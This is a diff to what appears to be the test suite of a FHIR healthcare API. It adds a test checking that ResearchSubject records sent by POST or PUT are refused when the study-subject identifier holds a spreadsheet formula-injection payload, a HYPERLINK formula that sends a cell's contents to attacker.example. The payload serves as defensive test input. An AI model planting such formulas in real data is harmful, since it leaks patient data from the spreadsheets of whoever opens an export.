@@ -302,3 +302,29 @@ def test_validate_takes_profile_and_mode_from_the_url(client: TestClient) -> Non
     assert errors(client.post(f"{url}&mode=profile", json=patient, headers=FHIR))
     alone = client.post("/fhir/Patient/$validate?mode=profile", json=patient, headers=FHIR)
     assert alone.status_code == 200 and errors(alone) == [("required", ["profile"])]
+
+
+@pytest.mark.parametrize("method", ["POST", "PUT"])
+def test_research_subject_with_a_bad_study_subject_id_is_refused(
+    client: TestClient, method: str
+) -> None:
+    subject = {
+        "resourceType": "ResearchSubject",
+        "identifier": [
+            {
+                "system": "https://fhir-bridge.org/fhir/sid/study-subject",
+                "value": '=HYPERLINK("http://attacker.example/?leak="&C2,"open")',
+            }
+        ],
+        "status": "on-study",
+        "study": {"reference": "ResearchStudy/s1"},
+        "individual": {"reference": "Patient/p1"},
+    }
+    if method == "POST":
+        response = client.post("/fhir/ResearchSubject", json=subject, headers=FHIR)
+    else:
+        response = client.put(
+            "/fhir/ResearchSubject/rs1", json={**subject, "id": "rs1"}, headers=FHIR
+        )
+    assert response.status_code == 422, response.text
+    assert errors(response) == [("value", ["ResearchSubject.identifier[0].value"])]
